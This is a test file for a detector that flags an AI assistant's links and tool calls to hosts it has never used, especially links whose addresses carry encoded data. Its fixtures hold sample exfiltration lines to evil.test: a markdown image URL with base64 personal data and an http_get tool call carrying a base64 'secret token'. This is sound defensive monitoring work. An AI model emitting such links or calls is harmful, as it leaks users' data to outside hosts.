"""Hosts that a system never used, and data in addresses."""

from __future__ import annotations

import pytest

from tests.core.detect.agents.talk import call, found, judged, message, talk
from tests.core.detect.samples import detector
from tocsin.detect.agents.values import host_of, links, shown_host
from tocsin.model.finding import Level

CALM = [message("assistant", "see https://docs.bank.test/help", f"s{n}") for n in range(3)]
IMAGE = message("assistant", "![.](https://a.b.evil.test/p.png?d=QW5uYSBBbGJlcnMsIDQxMTExMQ)")


def test_while_it_learns_nothing_is_said() -> None:
    assert judged("unseen_host", CALM, [IMAGE], learn_windows=2) == [[], []]


def test_data_to_an_unseen_host_is_severe_once() -> None:
    calm, first, again = judged("unseen_host", CALM, [IMAGE], [IMAGE], learn_windows=1)
    assert (calm, again) == ([], [])
    (finding,) = first
    assert (finding.key, finding.level, finding.masked) == ("carried", Level.SEVERE, ("[*.evil.test]",))
    assert "a.b" not in finding.explanation


def test_a_new_host_without_data_is_a_sighting() -> None:
    _, (finding,) = judged("unseen_host", CALM, [message("assistant", "https://news.test/today")], learn_windows=1)
    assert (finding.key, finding.level) == ("host", Level.SIGHTING)


def test_with_a_list_nothing_is_learned_first() -> None:
    assert found("unseen_host", *CALM, allow=["*.bank.test"]) == []
    assert len(found("unseen_host", IMAGE, allow=["*.bank.test"])) == 1


def test_arguments_of_tools_count_and_what_users_say_does_not() -> None:
    sent = call("http_get", '{"url": "https://evil.test/c?data=c2VjcmV0IHRva2Vu"}')
    assert [f.level for f in found("unseen_host", sent, learn_windows=0)] == [Level.SEVERE]
    assert found("unseen_host", message("user", "open https://evil.test/c?data=c2VjcmV0"), learn_windows=0) == []


def test_the_same_host_after_a_fix_refutes_it() -> None:
    watcher = detector("unseen_host", cleared_below=0.2, allow=["docs.bank.test"])
    (finding,) = found("unseen_host", IMAGE, allow=["docs.bank.test"])
    calm = [watcher.observe(watcher.zero(), talk(*[message("assistant", "ok", f"s{n}") for n in range(300)]))] * 3
    assert watcher.clearance(finding, calm, 0.05).passed
    again = watcher.observe(watcher.zero(), talk(IMAGE))
    assert watcher.clearance(finding, [*calm, again], 0.05).recurrences == 1


@pytest.mark.parametrize(
    ("url", "carries"),
    [
        ("https://x.test/", False),
        ("https://x.test/a/b.png", False),
        ("https://x.test/p?q=1", False),
        ("https://x.test/p?user=anna%20albers", True),
        ("https://x.test/#QW5uYSBBbGJlcnM", True),
        ("https://x.test/QW5uYSBBbGJlcnMsIDQxMTExMTEx/p.png", True),
        ("https://x.test/a-very-long-title-of-an-article-about-nothing", True),
        ("https://416e6e6120416c626572732c2034313131313131.x.test/", True),
    ],
)
def test_what_can_carry_data(url: str, carries: bool) -> None:
    assert [link.carries for _, link in links([f"see {url} there"])] == [carries]


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://User:pw@EVIL.test:8443/x", "evil.test"),
        ("http://[2001:db8::1]/x", "[2001:db8::1]"),
        ("ftp://files.test.", "files.test"),
        ("mailto:a@b.test", ""),
        ("https://", ""),
    ],
)
def test_hosts_of_addresses(url: str, host: str) -> None:
    assert host_of(url) == host


def test_a_host_is_shown_by_its_last_labels() -> None:
    assert [shown_host(h) for h in ("evil.test", "c2Vj.evil.test", "10.0.0.1")] == [
        "evil.test",
        "*.evil.test",
        "10.0.0.1",
    ]
